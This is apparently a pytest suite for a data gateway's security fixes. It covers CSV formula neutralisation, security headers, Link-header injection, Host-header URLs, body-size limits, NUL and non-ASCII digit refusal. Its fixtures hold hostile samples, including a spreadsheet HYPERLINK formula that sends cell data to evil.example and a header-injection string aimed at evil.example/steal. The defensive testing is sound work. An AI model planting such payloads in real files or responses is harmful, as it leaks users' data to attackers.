"""Issue 12, findings 10 and 13 (low): spreadsheet formulas in CSV, browser headers, the
`Link` header, absolute URLs, body size, NUL characters and non-ASCII digits — each over
HTTP, on SQLite and PostgreSQL, each refusal audited and changing nothing."""

from __future__ import annotations

import csv
import io
import re
import socket
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import httpx
import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from catalog.importer import import_package
from gateway.app import create_app
from gateway.settings import Settings
from tests.auth.helpers import PASSWORD, user
from tests.conftest import LiveServer, TestClient
from tests.packages import write_package

URL = "/api/v1/datasets/air-readings/records"
FORMULA_URL = "/api/v1/datasets/formulas/records"

# What a spreadsheet would run, and what it must show instead (OWASP CSV injection).
FORMULAS = {
    1: '=HYPERLINK("http://evil.example/?d="&A1,"点这里")',
    2: "@SUM(A1:A9)",
    3: "+1+1",
    4: "-2+3",
    5: "\tcmd",
    6: "\rcmd",
    7: "=1,2",
}
FORMULA_FIELDS = [
    {"name": "row_id", "type": "integer", "level": 1},
    {"name": "label", "type": "string", "level": 1},
    {"name": "delta", "type": "integer", "level": 1},
    {"name": "ratio", "type": "number", "level": 1},
]


def events(engine: Engine, action: str) -> list[tuple[int, str | None]]:
    with engine.connect() as conn:
        return [
            (row[0], row[1])
            for row in conn.execute(
                sa.text("SELECT status, detail FROM audit_events WHERE action = :a ORDER BY seq"),
                {"a": action},
            )
        ]


@pytest.fixture
def loaded(engine: Engine, packages: Path) -> None:
    import_package(engine, write_package(packages))


@pytest.fixture
def formulas(engine: Engine, packages: Path) -> None:
    rows = [[i, text, -5 * i, -2.5] for i, text in FORMULAS.items()]
    rows += [[8, "plain 文本", 0, 0.5], [9, "", 7, ""]]
    data = io.StringIO()
    writer = csv.writer(data, lineterminator="\r\n")  # quotes the cell holding a CR
    writer.writerow([f["name"] for f in FORMULA_FIELDS])
    writer.writerows(rows)
    package = write_package(
        packages, name="formulas", title="公式", fields=FORMULA_FIELDS, data_text=data.getvalue()
    )
    import_package(engine, package)


def csv_rows(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def developer(client: TestClient, engine: Engine, name: str = "dev1") -> dict[str, str]:
    user(engine, name, "developer")
    token = client.post("/auth/login", json={"username": name, "password": PASSWORD})
    return {"Authorization": f"Bearer {token.json()['access_token']}"}


# --- finding 10: spreadsheet formulas --------------------------------------------------------


@pytest.mark.parametrize("route", ["records", "export"])
def test_csv_neutralises_formulas_and_keeps_numbers(client: TestClient, formulas: None, route: str):
    response = client.get(f"/api/v1/datasets/formulas/{route}", params={"format": "csv"})
    rows = csv_rows(response)
    assert rows[0] == ["row_id", "label", "delta", "ratio"]
    by_id = {int(r[0]): r for r in rows[1:]}
    for i, text in FORMULAS.items():
        assert by_id[i][1] == "'" + text, i  # a leading ' : shown as text, never run
        assert by_id[i][2] == str(-5 * i) and by_id[i][3] == "-2.5"  # numbers untouched
    assert by_id[8][1] == "plain 文本" and by_id[9][1] == ""
    text = response.content.decode("utf-8-sig")
    # the neutralised cell is quoted too; negative numbers stay bare numbers
    assert '\r\n1,"\'=HYPERLINK(""http://evil.example/?d=""&A1,""点这里"")",-5,-2.5\r\n' in text
    assert '\r\n3,"\'+1+1",-15,-2.5\r\n' in text
    assert "\r\n8,plain 文本,0,0.5\r\n" in text  # other rows as before


@pytest.mark.parametrize("route", ["records", "export"])
def test_csv_formulas_raw_is_for_machines(client: TestClient, formulas: None, route: str):
    response = client.get(
        f"/api/v1/datasets/formulas/{route}", params={"format": "csv", "csv_formulas": "raw"}
    )
    by_id = {int(r[0]): r for r in csv_rows(response)[1:]}
    assert {i: by_id[i][1] for i in FORMULAS} == FORMULAS


def test_json_is_not_altered(client: TestClient, formulas: None):
    data = client.get(FORMULA_URL, params={"order_by": "row_id"}).json()["data"]
    assert [d["label"] for d in data[:7]] == list(FORMULAS.values())
    assert data[0]["delta"] == -5


def test_csv_formulas_bad_value_is_refused_and_audited(
    client: TestClient, engine: Engine, formulas: None
):
    response = client.get(FORMULA_URL, params={"format": "csv", "csv_formulas": "maybe"})
    assert response.status_code == 400
    assert response.json()["code"] == "invalid_parameter"
    assert response.json()["parameter"] == "csv_formulas"
    assert [status for status, _ in events(engine, "data.records")] == [400]


def test_masked_and_bucketed_cells_are_neutralised_too():
    """Masks keep the first characters, and a bucket of a negative number starts with
    `-`: those columns are checked like clear text (rendering only, no database)."""
    from types import SimpleNamespace

    from catalog.models import FieldType
    from gateway.formats import CsvWriter
    from policies.compiled import compile_transform, map_columns

    fields = {
        "name": SimpleNamespace(type=FieldType.string),
        "base": SimpleNamespace(type=FieldType.integer),
    }
    hosted = SimpleNamespace(by_name=fields)
    transforms = ["mask_name", "bucket:1000"]
    steps = [(i, compile_transform(t, key=None, pii="name")) for i, t in enumerate(transforms)]
    rows = map_columns([("=cmd", -5), ("张三丰", 12345)], steps)
    out = CsvWriter(hosted, ["name", "base"], transforms).rows(rows)  # type: ignore[arg-type]
    assert list(csv.reader(io.StringIO(out))) == [["'=***", "'-1000--1"], ["张**", "12000-12999"]]


# --- finding 13: browser headers -------------------------------------------------------------


def test_every_answer_says_nosniff(client: TestClient, engine: Engine, loaded: None):
    answers = [
        client.get("/healthz"),
        client.get(URL, params={"limit": 1}),
        client.get(URL, params={"format": "csv", "limit": 1}),
        client.get("/api/v1/nowhere"),
        client.get("/api/v1/datasets", headers={"Authorization": "Bearer not-a-token"}),
        client.get("/openapi.json"),
        client.get("/docs"),
    ]
    assert [a.status_code for a in answers] == [200, 200, 200, 404, 401, 200, 200]
    for answer in answers:
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "content-security-policy" in answer.headers
        assert "strict-transport-security" not in answer.headers  # plain http issuer
    assert answers[1].headers["content-security-policy"] == (
        "default-src 'none'; frame-ancestors 'none'"
    )


def test_hsts_when_the_installation_is_https(engine: Engine, settings: Settings):
    https = settings.model_copy(update={"issuer": "https://data.example.gov.cn"})
    with TestClient(create_app(https, engine=engine)) as client:
        assert "max-age=" in client.get("/healthz").headers["strict-transport-security"]
    with TestClient(create_app(settings, engine=engine), base_url="https://testserver") as client:
        assert "strict-transport-security" in client.get("/healthz").headers


def test_docs_run_under_a_policy_of_self_only(client: TestClient):
    page = client.get("/docs")
    policy = page.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy
    assert "unsafe-eval" not in policy and "http" not in policy
    assert page.headers["x-frame-options"] == "DENY"
    scripts = re.findall(r"<script([^>]*)>(.*?)</script>", page.text, re.S)
    assert scripts and all('src="/' in attrs and not body.strip() for attrs, body in scripts)
    assert "<style" not in page.text and " style=" not in page.text
    for src in re.findall(r'(?:src|href)="([^"]+)"', page.text):
        assert src.startswith("/"), src
        assert client.get(src).status_code == 200
    starter = client.get("/docs/init.js")
    assert starter.headers["content-type"].startswith("text/javascript")
    assert '"/openapi.json"' in starter.text and "SwaggerUIBundle(" in starter.text


def test_consent_page_has_no_inline_style_and_its_policy_allows_none(client: TestClient):
    page = client.get("/oauth/authorize")  # no parameters: the error page, same layout
    assert page.status_code == 400 and page.headers["content-type"].startswith("text/html")
    assert "<style" not in page.text and " style=" not in page.text
    assert '<link rel="stylesheet" href="/static/portal/portal.css">' in page.text
    policies = page.headers.get_list("content-security-policy")
    assert any("style-src 'self';" in p and "script-src 'self'" in p for p in policies)
    assert all("sha256-" not in p and "unsafe-inline" not in p for p in policies)
    assert all("form-action" not in p for p in policies)  # the approval redirects to the app


def test_nginx_hides_its_version():
    conf = (Path(__file__).parents[2] / "docker" / "nginx.conf").read_text()
    assert re.search(r"^\s*server_tokens\s+off;", conf, re.M)


# --- the Link header -------------------------------------------------------------------------


def raw_get(url: str, target: str) -> tuple[int, dict[str, list[str]]]:
    """A request line sent as typed: httpx would percent-encode `<`, `>` and `"`, which
    an attacker's client need not do."""
    parts = urlsplit(url)
    with socket.create_connection((parts.hostname, parts.port), timeout=10) as s:
        s.sendall(f"GET {target} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
        data = b""
        while chunk := s.recv(65536):
            data += chunk
    head = data.split(b"\r\n\r\n", 1)[0].decode("latin-1").split("\r\n")
    headers: dict[str, list[str]] = {}
    for line in head[1:]:
        name, _, value = line.partition(":")
        headers.setdefault(name.strip().lower(), []).append(value.strip())
    return int(head[0].split()[1]), headers


def test_link_header_cannot_be_injected(live: LiveServer, engine: Engine, packages: Path):
    import_package(engine, write_package(packages))
    evil = 'x>,<https://evil.example/steal>;rel="next",<y'
    status, headers = raw_get(live.url, f"{URL}?station__ne={evil}&limit=5")
    assert status == 200
    [link] = headers["link"]
    assert re.fullmatch(r'<[^<>"]*>; rel="next"', link), link
    target = link[1 : link.index(">")]
    assert target.startswith(URL + "?")
    query = parse_qs(urlsplit(target).query)
    assert query["station__ne"] == [evil] and query["limit"] == ["5"]
    follow = httpx.get(live.url + target)  # the link still works, filter and all
    assert follow.status_code == 200 and len(follow.json()["data"]) == 5


def test_link_keeps_parameters_and_encodes_them(client: TestClient, loaded: None):
    response = client.get(URL, params={"limit": 2, "station__ne": "a b&c", "fields": "reading_id"})
    target = response.headers["link"][1 : response.headers["link"].index(">")]
    assert parse_qs(urlsplit(target).query)["station__ne"] == ["a b&c"]
    assert client.get(target).json()["data"][0]["reading_id"] == 3


# --- absolute URLs -------------------------------------------------------------------------


def test_dcat_urls_come_from_the_issuer_not_the_host_header(
    client: TestClient, settings: Settings, loaded: None
):
    doc = client.get("/api/v1/catalog.jsonld", headers={"Host": "evil.example"}).json()
    ids = re.findall(r'"@id": "([^"]+)"', __import__("json").dumps(doc))
    # The IRIs the gateway mints; the rest name vocabulary terms (docs/contract-dcat.md).
    external = (
        "http://publications.europa.eu/",
        "https://www.iana.org/",
        "http://purl.org/adms/",
        "https://spec.openapis.org/",
        "mailto:",
    )
    minted = [i for i in ids if not i.startswith(external)]
    assert minted and all(i.startswith(settings.issuer + "/") for i in minted), ids
    assert "evil.example" not in str(doc)


# --- body size -------------------------------------------------------------------------------


def test_large_json_body_is_refused_before_parsing(client: TestClient, engine: Engine):
    body = b'{"username": "big", "password": "' + b"x" * (2 * 1024 * 1024) + b'"}'
    response = client.post(
        "/auth/register", content=body, headers={"Content-Type": "application/json"}
    )
    assert response.status_code == 413
    assert response.headers["content-type"] == "application/problem+json"
    assert response.json()["code"] == "payload_too_large"
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM users")).scalar_one() == 0
    assert [status for status, _ in events(engine, "user.register")] == [413]


def test_body_limit_is_a_setting(engine: Engine, settings: Settings):
    small = settings.model_copy(update={"max_body_bytes": 2048})
    with TestClient(create_app(small, engine=engine)) as client:
        auth = developer(client, engine)
        ok = client.post("/api/v1/apps", headers=auth, json={"name": "小应用"})
        assert ok.status_code == 201
        big = client.post("/api/v1/apps", headers=auth, json={"name": "x", "pad": "y" * 4000})
        assert big.status_code == 413 and big.json()["code"] == "payload_too_large"
    assert [status for status, _ in events(engine, "app.create")] == [201, 413]


def test_chunked_body_is_counted(live: LiveServer, engine: Engine):
    def chunks() -> Iterator[bytes]:
        yield b'{"username": "chunky", "password": "'
        for _ in range(40):
            yield b"x" * 65536  # 2.5 MB, no Content-Length
        yield b'"}'

    response = httpx.post(
        f"{live.url}/auth/register",
        content=chunks(),
        headers={"Content-Type": "application/json"},
        timeout=30,
    )
    assert response.status_code == 413 and response.json()["code"] == "payload_too_large"
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM users")).scalar_one() == 0


# --- NUL characters ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "target",
    [f"{URL}?station=a%00b", f"{URL}?station%00=a", f"{URL}/%00", f"{URL}?station__in=a,%00"],
)
def test_nul_in_the_query_or_path_is_refused(
    client: TestClient, engine: Engine, loaded: None, target: str
):
    response = client.get(target)
    assert response.status_code == 400, response.text
    assert response.json()["code"] == "invalid_parameter" and "NUL" in response.json()["detail"]
    action = "data.record" if "/%00" in target else "data.records"
    assert [status for status, _ in events(engine, action)] == [400]


def test_nul_in_json_values_is_refused(client: TestClient, engine: Engine):
    auth = developer(client, engine)
    bad = client.post(
        "/api/v1/apps",
        headers={**auth, "Content-Type": "application/json"},
        content=b'{"name": "a\\u0000b"}',
    )
    assert bad.status_code == 400 and "NUL" in bad.json()["detail"]
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT count(*) FROM apps")).scalar_one() == 0
    # six characters of text that merely look like the escape are fine
    fine = client.post(
        "/api/v1/apps",
        headers={**auth, "Content-Type": "application/json"},
        content=b'{"name": "a\\\\u0000b"}',
    )
    assert fine.status_code == 201 and fine.json()["name"] == "a\\u0000b"
    assert [status for status, _ in events(engine, "app.create")] == [400, 201]


def test_nul_in_a_form_is_refused(client: TestClient, engine: Engine):
    response = client.post(
        "/oauth/token",
        content=b"grant_type=client_credentials&client_id=og_%00x&client_secret=s",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert response.status_code == 400 and "NUL" in response.json()["detail"]
    assert [status for status, _ in events(engine, "token.issue")] == [400]


# --- ASCII digits --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("params", "parameter"),
    [
        ({"limit": "１０"}, "limit"),
        ({"limit": "٣"}, "limit"),
        ({"reading_id": "１"}, "reading_id"),
        ({"aqi__in": "1,２"}, "aqi__in"),
        ({"pm25__gt": "１.５"}, "pm25__gt"),
    ],
)
def test_only_ascii_digits(client: TestClient, loaded: None, params: dict, parameter: str):
    response = client.get(URL, params=params)
    assert response.status_code == 400, response.text
    assert response.json()["parameter"] == parameter
    assert client.get(URL, params={"limit": "10"}).status_code == 200


def test_live_server_sends_the_headers_too(live: LiveServer):
    # A header check, not a speed check: CI's loaded machine once took over httpx's 5 s.
    response = httpx.get(f"{live.url}/healthz", timeout=30)
    assert response.headers["x-content-type-options"] == "nosniff"
